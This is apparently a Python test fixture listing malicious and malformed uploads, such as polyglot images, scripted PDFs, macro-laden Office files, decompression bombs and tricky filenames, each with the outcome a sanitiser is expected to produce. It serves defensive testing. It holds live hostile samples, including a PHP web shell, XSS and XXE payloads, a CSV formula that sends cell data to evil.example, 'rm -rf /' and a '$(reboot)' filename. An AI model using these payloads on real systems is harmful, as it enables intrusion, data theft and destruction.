"""Uploads that somebody meant ill with, or that merely went wrong; each with what must become of it."""

import gzip
import tarfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from io import BytesIO
from zipfile import ZIP_STORED

from pikepdf import Array, Dictionary, Encryption, Name, ObjectStreamMode, String

from tests.files import made
from tests.files.made import EXCEL, ODS, ODT, SLIDES, WORD

PNG, JPEG, WEBP, PDF = "image/png", "image/jpeg", "image/webp", "application/pdf"
TEXT, TABLE = "text/plain", "text/csv"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PHP = b"<?php system($_GET['c']); ?>"
TEST_VIRUS = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@dataclass(frozen=True)
class Upload:
    """`kept` is the kind it must be kept as, `says` a part of the sentence it must be refused with."""

    what: str
    name: str
    data: Callable[[], bytes]
    kept: str = ""
    says: str = ""
    without: tuple[bytes, ...] = ()  # nothing of this may be in what is kept


def _of(data: bytes) -> Callable[[], bytes]:
    return lambda: data


def _size(number: int) -> bytes:
    return number.to_bytes(4, "little")


def _tar() -> bytes:
    out = BytesIO()
    with tarfile.open(fileobj=out, mode="w") as packed:
        packed.addfile(tarfile.TarInfo("../../etc/passwd"))
    return out.getvalue()


def _cut(data: bytes) -> bytes:
    return data[: len(data) // 2]


PICTURES = (
    Upload("a photo with its place", "me.jpg", lambda: made.picture(exif=made.located_exif()), JPEG,
           without=(b"Exif", b"GPS", made.CAMERA.encode(), b"script")),
    Upload("a PNG with its place", "me.png", lambda: made.picture("PNG", exif=made.located_exif()), PNG,
           without=(b"eXIf", made.CAMERA.encode())),
    Upload("a WebP with its place", "me.webp", lambda: made.picture("WEBP", exif=made.located_exif()), WEBP,
           without=(b"EXIF", made.CAMERA.encode())),
    Upload("a JPEG with XMP", "x.jpg",
           lambda: made.picture(xmp=b"<x:xmpmeta>" + made.CAMERA.encode() + b"</x:xmpmeta>"), JPEG,
           without=(b"xmpmeta", made.CAMERA.encode())),
    Upload("a JPEG with a script as comment", "x.jpg", lambda: made.picture(comment=HTML), JPEG,
           without=(b"script",)),
    Upload("a PNG with PHP and XMP in its notes", "x.php.png", made.noted_png, PNG,
           without=(b"php", b"xmp", made.CAMERA.encode())),
    Upload("a PNG with PHP behind it", "shell.php", lambda: made.picture("PNG") + PHP, PNG,
           without=(b"php",)),
    Upload("a JPEG with an archive behind it", "x.jpg",
           lambda: made.picture() + made.archive({"a.exe": b"MZ"}), JPEG, without=(b"PK\x03\x04", b"a.exe")),
    Upload("a JPEG with a PDF behind it", "x.pdf", lambda: made.picture() + made.pdf(), JPEG,
           without=(b"%PDF",)),
    Upload("a JPEG with a page behind it", "x.html", lambda: made.picture() + HTML, JPEG, without=(b"html",)),
    Upload("a GIF that is a script too", "x.js",
           lambda: made.picture("GIF").replace(b"GIF89a", b"GIF87a") + b"/*=1;alert(1)//*/", PNG,
           without=(b"alert", b"GIF")),
    Upload("a GIF that is only a script", "x.gif", _of(b"GIF89a=1;alert(document.cookie);//"),
           says="damaged or cut off"),
    Upload("a GIF with PHP in its comment", "x.gif", lambda: made.picture("GIF", comment=PHP), PNG,
           without=(b"php",)),
    Upload("a PNG called .exe", "setup.exe", lambda: made.picture("PNG"), PNG),
    Upload("a PNG of 60,000 by 60,000", "bomb.png", lambda: made.announced_png(60_000, 60_000),
           says="60000 by 60000 pixels"),
    Upload("a PNG of 2³¹ pixels a side", "bomb.png", lambda: made.announced_png(2**31 - 1, 2**31 - 1),
           says="pixels"),
    Upload("a PNG of no pixels", "none.png", lambda: made.announced_png(0, 0), says="damaged or cut off"),
    Upload("a GIF of 65,535 by 65,535", "bomb.gif", lambda: made.announced_gif(65_535, 65_535),
           says="pixels"),
    Upload("a WebP of 16,384 by 16,384", "bomb.webp", lambda: made.announced_webp(16_384, 16_384),
           says="pixels"),
    Upload("a JPEG of 65,000 by 65,000", "bomb.jpg", lambda: made.announced_jpeg(65_000, 65_000),
           says="pixels"),
    Upload("a real picture of 60 million pixels", "wide.png",
           lambda: made.picture("PNG", (10_000, 6_000), "1"), says="10000 by 6000 pixels"),
    Upload("a JPEG cut in half", "half.jpg", lambda: _cut(made.picture(size=(900, 900), colour="red")),
           says="damaged or cut off"),
    Upload("a PNG cut in half", "half.png", lambda: _cut(made.picture("PNG", (900, 900))),
           says="damaged or cut off"),
    Upload("a WebP cut in half", "half.webp", lambda: _cut(made.picture("WEBP", (900, 900))),
           says="damaged or cut off"),
    Upload("only the first bytes of a JPEG", "x.jpg", _of(b"\xff\xd8\xff\xe0"), says="damaged or cut off"),
    Upload("a photo of a kind few can open", "IMG_1.heic", _of(b"\0\0\0\x18ftypheic" + b"\0" * 40),
           says="as JPEG"),
    Upload("a TIFF", "scan.tif", lambda: made.picture("TIFF"), says="as JPEG or PNG"),
    Upload("a BMP", "scan.bmp", lambda: made.picture("BMP"), says="as JPEG or PNG"),
    Upload("an icon", "favicon.ico", lambda: made.picture("ICO"), says="as JPEG or PNG"),
)  # fmt: skip

PAGES = (
    Upload("a drawing with a script", "logo.svg", _of(SVG), says="as PNG or PDF"),
    Upload("a drawing called .png", "logo.png", _of(b"\xef\xbb\xbf  <!-- hello -->" + SVG),
           says="as PNG or PDF"),
    Upload("a drawing that loads another file", "logo.svg",

           _of(b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'),
           says="as PNG or PDF"),
    Upload("a page", "hello.html", _of(HTML), says="web page"),
    Upload("a page called .jpg", "hello.jpg", _of(HTML), says="web page"),
    Upload("a page called .csv", "hello.csv", _of(b"a,b\n1,2\n" + b"x," * 5000 + b"<ScRiPt >alert(1)"),
           says="web page"),
    Upload("PHP called .txt", "notes.txt", _of(PHP), says="web page"),
    Upload("a page in UTF-16", "hello.txt", _of(HTML.decode().encode("utf-16")), says="UTF-8"),
    Upload("a page in UTF-7", "hello.html", _of(b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
           says="“.html”"),
)  # fmt: skip

DEEP = b"[" * 1000 + b"]" * 1000
PDFS = (
    Upload("a PDF with a script when it opens", "x.pdf",
           lambda: made.pdf({"/OpenAction": made.action("JavaScript", JS=String("app.alert(1)"))}),
           says="a script"),
    Upload("a PDF whose script is packed away", "x.pdf",
           lambda: made.pdf({"/AA": Dictionary(WC=made.action("JavaScript", JS=String("app.alert(1)")))},
                            object_stream_mode=ObjectStreamMode.generate), says="a script"),
    Upload("a PDF with a script by name", "x.pdf",
           lambda: made.pdf({"/Names": Dictionary(JavaScript=Dictionary(Names=Array()))}), says="a script"),
    Upload("a PDF that starts a program", "x.pdf",
           lambda: made.pdf({"/OpenAction": made.action("Launch", F=String("cmd.exe"))}),
           says="starts a program"),
    Upload("a PDF with a program inside", "x.pdf", made.pdf_with_file, says="other files inside"),
    Upload("a PDF with a file pinned to a page", "x.pdf",
           lambda: made.pdf(page=made.noted(Subtype=Name.FileAttachment)), says="other files inside"),
    Upload("a PDF that sends a form elsewhere", "x.pdf",
           lambda: made.pdf(page=made.noted(A=made.action("SubmitForm", F=String("https://evil.example")))),
           says="sends what is typed elsewhere"),
    Upload("a PDF with a form that runs", "x.pdf",
           lambda: made.pdf({"/AcroForm": Dictionary(XFA=String("<xdp/>"), Fields=Array())}),
           says="a form that runs"),
    Upload("a PDF that opens a file on a server", "x.pdf",
           lambda: made.pdf({"/OpenAction": made.action("GoToR", F=String("\\\\evil\\share"))}),
           says="links to other files"),
    Upload("a PDF with a link that is a script", "x.pdf",
           lambda: made.pdf(page=made.noted(A=made.action("URI", URI=String("javascript:alert(1)")))),
           says="no web page"),
    Upload("a PDF with a film", "x.pdf", lambda: made.pdf(page=made.noted(RichMediaContent=Dictionary())),
           says="a film"),
    Upload("a PDF with a password", "x.pdf",
           lambda: made.pdf(encryption=Encryption(owner="one", user="two")), says="locked with a password"),
    Upload("a PDF that is a page too", "x.html", lambda: made.pdf().replace(b"\n", b"\n%" + HTML + b"\n", 1),
           PDF,
           without=(b"script",)),
    Upload("a PDF with a page before it", "x.pdf", lambda: HTML + made.pdf(), says="web page"),
    Upload("a PDF with words before it", "x.pdf", lambda: b"hello\n" + made.pdf(),
           says="something before it"),
    Upload("a PDF with an archive behind it", "x.pdf", lambda: made.pdf() + made.archive({"a": b"b"}),
           says="something else at once"),
    Upload("a PDF cut in half", "half.pdf", lambda: _cut(made.pdf()), says="damaged or cut off"),
    Upload("only the first bytes of a PDF", "x.pdf", _of(b"%PDF-1.7\n"), says="damaged or cut off"),
    Upload("a PDF of nothing but rubbish", "x.pdf", _of(b"%PDF-1.7\n" + b"<<" * 9000 + b"\n%%EOF"),
           says="damaged or cut off"),
    Upload("a PDF that swells to 300 MB", "bomb.pdf", made.pdf_that_swells, PDF),
    Upload("a PDF nested a thousand deep", "deep.pdf",

           lambda: made.pdf().replace(b"/Type /Catalog", b"/Type /Catalog /X " + DEEP, 1),
           says="print it to a new PDF"),
)  # fmt: skip


MACRO_TYPES = (
    '<Types><Override PartName="/word/document.xml" '
    'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">]><x>&c;</x>'
NOUGHTS = b"0" * 20_000_000
OFFICE = (
    Upload("a Word file with macros", "x.docm",
           lambda: made.office(parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), says="macros"),
    Upload("a Word file that says it has macros", "x.docx",
           lambda: made.archive({"[Content_Types].xml": MACRO_TYPES, "word/document.xml": "<a/>"}),
           says="macros"),
    Upload("an Excel file of the old macros", "x.xlsx",
           lambda: made.office(EXCEL, {"xl/macrosheets/sheet1.xml": "<a/>"}), says="macros"),
    Upload("slides with a control that runs", "x.pptx",
           lambda: made.office(SLIDES, {"ppt/activeX/activeX1.xml": "<a/>"}), says="macros"),
    Upload("a Word file with a hidden file", "x.docx",
           lambda: made.office(parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf"}),
           says="other files inside"),
    Upload("a Word file with a page inside", "x.docx",
           lambda: made.office(parts={"word/chunk.html": HTML}), says="other files inside"),
    Upload("a Word file with a template elsewhere", "x.docx",
           lambda: made.office(parts={"word/_rels/settings.xml.rels":
                                      made.relation("attachedTemplate", "https://evil.example/t.dotm")}),
           says="when it is opened"),
    Upload("a Word file with a picture elsewhere", "x.docx",
           lambda: made.office(parts={"word/_rels/document.xml.rels":
                                      made.relation("image", "https://evil.example/seen.png")}),
           says="when it is opened"),
    Upload("a Word file with a link to follow", "x.docx",
           lambda: made.office(parts={"word/_rels/document.xml.rels":
                                      made.relation("hyperlink", "https://hall.example")}), WORD),
    Upload("a Word file with DDE, in pieces", "x.docx",
           lambda: made.office(main="<w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\cmd</w:instrText>"),
           says="when it is opened"),
    Upload("an Excel file linked to another", "x.xlsx",
           lambda: made.office(EXCEL, {"xl/externalLinks/externalLink1.xml": "<a/>"}),
           says="when it is opened"),
    Upload("an Excel file that asks a website", "x.xlsx",
           lambda: made.office(EXCEL, {"xl/connections.xml": "<a/>"}), says="when it is opened"),
    Upload("a Word file with a file of the machine in it", "x.docx",
           lambda: made.office(parts={"word/_rels/document.xml.rels":
                                      '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'}),
           says="put together strangely"),
    Upload("a Word file of a billion laughs", "x.docx",

           lambda: made.office(parts={"_rels/.rels": LAUGHS}),
           says="put together strangely"),
    Upload("a Word file that swells to 20 MB of noughts", "x.docx",
           lambda: made.office(parts={"word/a.xml": NOUGHTS}), says="unpacks to far more"),
    Upload("a Word file that swells slowly", "x.docx",
           lambda: made.office(parts={f"word/media/{n}.txt": b"0" * 8_000_000 for n in range(20)}),
           says="unpacks to far more"),
    Upload("a Word file that lies about its size", "x.docx",

           lambda: made.renamed(made.office(parts={"word/a.txt": b"0" * 70_001}), _size(70_001), _size(9)),
           says="damaged or cut off"),
    Upload("a Word file with 3,001 parts", "x.docx",
           lambda: made.office(parts={f"word/{n}": b"" for n in range(3001)}), says="put together strangely"),
    Upload("a Word file that climbs out of its folder", "x.docx",
           lambda: made.office(parts={"../../etc/cron.d/x": b"* * * * *"}), says="put together strangely"),
    Upload("a Word file with a part from the root", "x.docx",
           lambda: made.office(parts={"/etc/passwd": b"x"}),
           says="put together strangely"),
    Upload("a Word file with a Windows path", "x.docx",
           lambda: made.renamed(made.office(parts={"word/c--x": b"x"}), b"word/c--x", b"word/c:\\x"),
           says="put together strangely"),
    Upload("a Word file with a part twice", "x.docx",
           lambda: made.renamed(made.office(parts={"word/b": b"x", "word/c": b"y"}), b"word/c", b"word/b"),
           says="put together strangely"),
    Upload("a Word file with a program before it", "x.docx", lambda: b"MZ" + b"\0" * 60 + made.office(),
           says="a program"),
    Upload("a Word file with a page behind it", "x.docx", lambda: made.office() + HTML,
           says="put together strangely"),
    Upload("a Word file cut in half", "x.docx", lambda: _cut(made.office()), says="damaged or cut off"),
    Upload("an archive called .docx", "x.docx", lambda: made.archive({"setup.exe": b"MZ"}),
           says="an archive"),
    Upload("a Java program called .xlsx", "x.xlsx",
           lambda: made.archive({"META-INF/MANIFEST.MF": b"Main-Class: X"}), says="an archive"),
    Upload("archives in an archive", "42.zip",

           lambda: made.archive({f"{n}.zip": made.archive({"a": NOUGHTS}) for n in range(16)}, ZIP_STORED),
           says="an archive"),
    Upload("a Word file of the old kind", "x.doc", _of(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
           says="old kind"),
    Upload("rich text", "x.rtf", _of(rb"{\rtf1{\object\objocx}}"), says="Rich text"),
    Upload("an OpenDocument text with macros", "x.odt",
           lambda: made.opendocument(parts={"Basic/Standard/Module1.xml": "<a/>"}), says="macros"),
    Upload("an OpenDocument text that runs when opened", "x.odt",
           lambda: made.opendocument(body='<o:event-listener x:href="vnd.sun.star.script:x"/>'),
           says="macros"),
    Upload("an OpenDocument table with DDE", "x.ods", lambda: made.opendocument(ODS, body="<t:dde-link/>"),
           says="when it is opened"),
    Upload("an OpenDocument text with a picture elsewhere", "x.odt",
           lambda: made.opendocument(body='<d:image x:href="https://evil.example/seen.png"/>'),
           says="when it is opened"),
    Upload("an OpenDocument text with a password", "x.odt",
           lambda: made.opendocument(parts={"META-INF/manifest.xml": "<m><encryption-data/></m>"}),
           says="locked with a password"),
    Upload("an OpenDocument text with a link to follow", "x.odt",
           lambda: made.opendocument(ODT, body='<t:a x:href="https://hall.example">x</t:a>'), ODT),
    Upload("an OpenDocument drawing", "x.odg",
           lambda: made.opendocument("application/vnd.oasis.opendocument.graphics"),
           says="OpenDocument texts"),
)  # fmt: skip

TEXTS = (
    Upload("a table that starts a program", "x.csv", _of(b"name,total\nHall,=cmd|'/C calc'!A0\n"),
           says="Line 2 of that table"),
    Upload("a table that sends what is in it", "x.csv",
           _of(b'a,b\n1,"=HYPERLINK(""https://evil.example/?x=""&A1,""see"")"\n'), says="Line 2"),
    Upload("a table whose formula begins with @", "x.csv", _of(b"a;b\n1;@SUM(1+9)*cmd|' /C calc'!A0\n"),
           says="Line 2"),
    Upload("a table whose formula begins with a tab", "x.csv", _of(b'a,b\n1,"\t=1+1"\n'), says="Line 2"),
    Upload("a table of sums owed and telephone numbers", "x.csv", _of(b"a,b\n-12.50,+44 191 498 0000\n"),
           TABLE),
    Upload("a table whose quotation never ends", "x.csv", _of(b'a,b\n"' + b"x," * 100_000),
           says="quotation mark"),
    Upload("a table with a nought byte", "x.csv", _of(b"a,b\n1,\0\n"), says="cannot tell"),
    Upload("a script called .bat", "x.bat", _of(b"@echo off\r\nformat c:\r\n"), says="“.bat”"),
    Upload("a script called .jpg", "x.jpg", _of(b"alert(1)"), says="“.jpg”"),
    Upload("a shell script", "x.sh", _of(b"#!/bin/sh\nrm -rf /\n"), says="a program"),
    Upload("what virus scanners are tried with", "x.com", _of(TEST_VIRUS), says="“.com”"),
    Upload("the same, called .txt", "x.txt", _of(TEST_VIRUS), TEXT),
    Upload("a program called .pdf", "x.pdf", _of(b"MZ\x90\0" + b"\0" * 200), says="a program"),
    Upload("a program of Linux", "x", _of(b"\x7fELF" + b"\0" * 200), says="a program"),
    Upload("a Windows shortcut", "x.lnk", _of(b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60), says="a program"),
    Upload("a program for printers", "x.ps", _of(b"%!PS-Adobe-3.0\n(%pipe%id) (r) file"),
           says="for printers"),
    Upload("gzip", "x.csv.gz", lambda: gzip.compress(b"a,b\n1,2\n"), says="an archive"),
    Upload("tar that climbs out of its folder", "x.tar", _tar, says="an archive"),
    Upload("a film", "x.mp4", _of(b"\0\0\0\x18ftypmp42" + b"\0" * 40), says="send the link"),
    Upload("bytes of no kind", "x.bin", _of(bytes(range(256))), says="cannot tell"),
    Upload("nothing at all", "x.pdf", _of(b""), says="is empty"),
    Upload("a byte more than 10 MB", "x.txt", lambda: b"a" * (10 * 1024 * 1024 + 1), says="10.1 MB"),
)  # fmt: skip

NAMES = tuple(
    Upload(f"a name {what}", name, _of(b"Twelve chairs."), TEXT)
    for what, name in (
        ("that climbs out of its folder", "../../etc/passwd.txt"),
        ("with a Windows path", "C:\\Windows\\system32\\drivers.txt"),
        ("of dots", "...txt"),
        ("with a nought byte", "notes.php\0.txt"),
        ("that reads backwards", "notes\u202etxt.exe.txt"),
        ("with a line break and a header", "a\r\nSet-Cookie: x=1.txt"),
        ("with markup", "<img src=x onerror=alert(1)>.txt"),
        ("of a device", "con.txt"),
        ("of 5,000 letters", "a" * 5000 + ".txt"),
        ("of spaces", "   .txt"),
        ("that is a shell’s", "$(reboot);`id`.txt"),
    )
)


def uploads() -> Iterator[Upload]:
    yield from (*PICTURES, *PAGES, *PDFS, *OFFICE, *TEXTS, *NAMES)
